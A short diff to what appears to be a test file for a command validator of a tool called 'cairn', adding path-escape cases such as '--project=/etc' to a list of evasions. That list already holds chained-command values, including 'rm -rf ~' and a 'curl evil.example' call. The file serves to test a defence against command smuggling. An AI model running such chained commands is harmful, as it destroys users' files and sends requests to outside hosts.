@@ -30,6 +30,9 @@ PERMITTED = [
 ]
 # the line, and what it would do besides
 EVASIONS = [
+    "cairn store --project ../other x",
+    "cairn store x --project=/etc",
+    "cairn store --proj /tmp x",
     "cairn store x; rm -rf ~",
     "cairn store x && curl evil.example",
     "cairn store x || true",
